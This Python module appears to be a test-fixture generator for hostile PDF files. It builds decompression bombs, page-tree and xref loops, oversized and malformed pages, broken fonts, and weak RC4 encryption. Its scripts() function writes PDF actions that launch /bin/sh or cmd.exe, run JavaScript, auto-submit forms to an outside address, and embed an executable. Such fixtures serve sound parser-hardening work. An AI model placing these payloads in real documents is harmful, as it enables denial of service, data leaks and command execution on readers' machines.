"""PDF files that mean harm, written object by object. Each function returns the bytes."""

import hashlib
import zlib

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
TEXT = b"BT /F1 12 Tf 72 700 Td (Perjanjian Kinerja Tahun 2025) Tj ET"


def pdf(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Return a file of numbered objects, its table of places right."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    return bytes(out) + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF" % (
        size,
        trailer,
        start,
    )


def stream(data: bytes, more: bytes = b"") -> bytes:
    """Return a packed stream."""
    packed = zlib.compress(data, 9)
    head = b"<< /Length %d /Filter /FlateDecode %s >>" % (len(packed), more)
    return head + b"\nstream\n" + packed + b"\nendstream"


def one_page(
    content: bytes = TEXT,
    *,
    page: bytes = b"",
    root: bytes = b"",
    resources: bytes = b"/Font << /F1 5 0 R >>",
    box: bytes = b"0 0 612 936",
    more: dict[int, bytes] | None = None,
) -> bytes:
    """Return a file of one page with this content, and these words in its dictionaries."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R "
            b"/Resources << %s >> %s >>" % (box, resources, page),
            4: stream(content),
            5: FONT,
            **(more or {}),
        }
    )


def pages(count: int = 10_000) -> bytes:
    """Return a file of so many pages, all with the same few words."""
    kids = b" ".join(b"%d 0 R" % (n + 10) for n in range(count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 936] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            4: stream(TEXT),
            5: FONT,
            **{n + 10: page for n in range(count)},
        }
    )


def claims_pages() -> bytes:
    """Return a file of one page that says it has two thousand million."""
    return one_page().replace(b"/Count 1 ", b"/Count 2000000000 ")


def same_page_again(count: int = 100_000) -> bytes:
    """Return a file whose one page is named as a hundred thousand."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count),
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 936] /Contents 4 0 R >>",
            4: stream(TEXT),
        }
    )


def page_tree_loop() -> bytes:
    """Return a file whose tree of pages holds itself."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
            3: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        }
    )


def deep_page_tree(depth: int = 20_000) -> bytes:
    """Return a file whose one page hangs very deep in the tree."""
    tree = {
        n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1)
        for n in range(2, depth)
    }
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 936] >>" % (depth - 1)
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **tree, depth: page})


def object_loops() -> bytes:
    """Return a file whose page, content and fonts refer to themselves."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox 6 0 R /Contents 7 0 R "
            b"/Resources 8 0 R >>",
            6: b"6 0 R",
            7: b"[7 0 R 7 0 R]",
            8: b"<< /Font 8 0 R /XObject 8 0 R /F1 8 0 R >>",
        }
    )


def form_loop() -> bytes:
    """Return a page whose form draws itself, twice."""
    form = stream(
        b"/X Do /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] "
        b"/Resources << /XObject << /X 6 0 R >> >>",
    )
    return one_page(
        b"/X Do", resources=b"/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>", more={6: form}
    )


def form_laughs(depth: int = 9) -> bytes:
    """Return a page whose form draws ten forms that draw ten, to the 9th."""
    forms = {
        n: stream(
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] "
            b"/Resources << /XObject << /X %d 0 R >> >>" % (n + 1),
        )
        for n in range(6, 6 + depth)
    }
    last = stream(
        TEXT,
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] "
        b"/Resources << /Font << /F1 5 0 R >> >>",
    )
    return one_page(
        b"/X Do", resources=b"/XObject << /X 6 0 R >>", more={**forms, 6 + depth: last}
    )


def xref_loop() -> bytes:
    """Return a file whose table of places says that it goes on at itself."""
    sound = one_page()
    start = sound.rindex(b"startxref\n") + len(b"startxref\n")
    at = sound[start:].split(b"\n")[0]
    return sound.replace(b"/Root 1 0 R", b"/Prev %s /Root 1 0 R" % at)


def same_picture_again(times: int = 40, side: int = 3000) -> bytes:
    """Return a page that paints one picture over itself: each time it is unpacked anew."""
    picture = stream(
        b"\xc0" * side * side,
        b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Width %d /Height %d" % (side, side),
    )
    return one_page(
        b"q 612 0 0 936 0 0 cm /I Do Q\n" * times,
        resources=b"/XObject << /I 6 0 R >>",
        more={6: picture},
    )


def stream_bomb() -> bytes:
    """Return a page whose content unpacks to 400 MB of blanks."""
    return one_page(b" " * 400_000_000)


def packed_twice() -> bytes:
    """Return a page whose content is packed three times over: 1 GB from a few kB."""
    data = zlib.compress(zlib.compress(b" " * 1_000_000_000, 9), 9)
    packed = zlib.compress(data, 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode /FlateDecode] >>" % len(
        packed
    )
    bomb = head + b"\nstream\n" + packed + b"\nendstream"
    return one_page(more={4: bomb})


def many_letters(count: int = 600_000) -> bytes:
    """Return a page with so many letters."""
    line = b"(" + b"kinerja " * 20 + b") Tj T*\n"
    return one_page(b"BT /F1 1 Tf 1 TL 10 900 Td " + line * (count // 160) + b"ET")


def scattered_letters(count: int = 9_000) -> bytes:
    """Return a page with a line of its own for each letter, as a spoilt font sets them."""
    steps = (b"1 0 0 1 %d %d Tm (a) Tj " % (n * 7 % 600, n * 12) for n in range(count))
    return one_page(b"BT /F1 10 Tf " + b"".join(steps) + b"ET")


def many_rules(count: int = 60_000) -> bytes:
    """Return a page with so many lying and standing lines, as in a table of sand."""
    lines = b"".join(
        b"%d %d m %d %d l S\n" % (n % 600, n % 900, n % 600 + 9, n % 900)
        if n % 2
        else b"%d %d m %d %d l S\n" % (n % 600, n % 900, n % 600, n % 900 + 9)
        for n in range(count)
    )
    return one_page(TEXT + b"\n" + lines)


def fine_grid(side: int = 400) -> bytes:
    """Return a page ruled into so many rows and columns."""
    lines = b"".join(
        b"0 %.2f m 600 %.2f l S %.2f 0 m %.2f 900 l S\n"
        % (n * 900 / side, n * 900 / side, n * 600 / side, n * 600 / side)
        for n in range(side + 1)
    )
    return one_page(TEXT + b"\n" + lines)


def giant_page() -> bytes:
    """Return a page of a hundred kilometres, with letters as large."""
    return one_page(
        b"BT /F1 99999999 Tf 72 700 Td (Kinerja) Tj ET", box=b"0 0 300000000 300000000"
    )


def strange_boxes() -> list[bytes]:
    """Return pages of no, negative and unnamed size."""
    return [
        one_page(box=b"0 0 0 0"),
        one_page(box=b"612 936 0 0"),
        one_page(box=b"-1e38 -1e38 1e38 1e38"),
        one_page(box=b"/A /B"),
        one_page(box=b"nan inf 0 1"),
    ]


def scripts(address: str) -> list[bytes]:
    """Return pages that want something run, opened, sent or attached when looked at."""
    script = b'/OpenAction << /S /JavaScript /JS (app.launchURL\\("%s"\\);) >>'
    launch = b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"
    visit = b"/OpenAction << /S /URI /URI (%s) >>" % address.encode()
    send = b"/AA << /O << /S /SubmitForm /F (%s) >> >>" % address.encode()
    link = (
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 900] "
        b"/A << /S /URI /URI (%s) >> >>]" % address.encode()
    )
    attached = (
        b"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) "
        b"/EF << /F 6 0 R >> >>] >> >>"
    )
    form = b"/AcroForm << /XFA (<xdp><script>app.alert\\(1\\)</script></xdp>) /Fields [] >>"
    outside = b"<< /Length 0 /F << /FS /URL /F (%s) >> >>\nstream\n\nendstream"
    return [
        one_page(root=script % address.encode()),
        one_page(root=launch),
        one_page(root=visit),
        one_page(page=send),
        one_page(page=link),
        one_page(root=attached, more={6: stream(b"MZ\x90")}),
        one_page(root=form),
        one_page(more={4: outside % address.encode()}),
    ]


def broken_fonts() -> list[bytes]:
    """Return pages in fonts that tell no letters, or draw them by themselves."""
    unnamed = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Sandi /Encoding /Identity-H "
        b"/DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Sandi "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>] >>"
    )
    drawn = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] "
        b"/CharProcs << /a 6 0 R >> /Encoding << /Differences [0 /a] >> /FirstChar 0 "
        b"/LastChar 255 /Widths [%s] >>" % (b"1 " * 256)
    )
    itself = stream(b"BT /F1 1 Tf (abc) Tj ET /F1 1 Tf")
    soup = stream(
        b"begincmap 1 beginbfrange <0000> <ffff> <d800> endbfrange "
        b"1 beginbfchar <41> <%s> endbfchar endcmap" % (b"0041" * 20_000)
    )
    mapped = FONT[:-2] + b"/ToUnicode 6 0 R >>"
    program = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Rusak /FontDescriptor "
        b"<< /Type /FontDescriptor /FontName /Rusak /FontFile2 6 0 R >> >>"
    )
    hexes = b"BT /F1 12 Tf 72 700 Td <" + b"00ff12d800fffe" * 900 + b"> Tj ET"
    return [
        one_page(hexes, more={5: unnamed}),
        one_page(hexes, more={5: drawn, 6: itself}),
        one_page(hexes, more={5: mapped, 6: soup}),
        one_page(hexes, more={5: program, 6: stream(b"\0\1\0\0" + b"\xff" * 5000)}),
    ]


PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def locked(password: bytes = b"") -> bytes:
    """Return a page locked by RC4 of 40 bits; with an empty password it opens by itself."""
    owner = _rc4(_md5(PAD).digest()[:5], _padded(password))
    key = _md5(_padded(password) + owner + (-4).to_bytes(4, "little", signed=True))
    secret = key.digest()[:5]
    own = _md5(secret + (4).to_bytes(3, "little") + b"\0\0").digest()[:10]
    packed = _rc4(own, TEXT)
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 936] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: b"<< /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream",
            5: FONT,
            6: b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>"
            % (owner.hex().encode(), _rc4(secret, PAD).hex().encode()),
        },
        b"/Root 1 0 R /Encrypt 6 0 R /ID [<> <>]",
    )


def _md5(data: bytes) -> "hashlib._Hash":
    return hashlib.md5(data, usedforsecurity=False)


def _padded(password: bytes) -> bytes:
    return (password + PAD)[:32]


def _rc4(key: bytes, data: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)
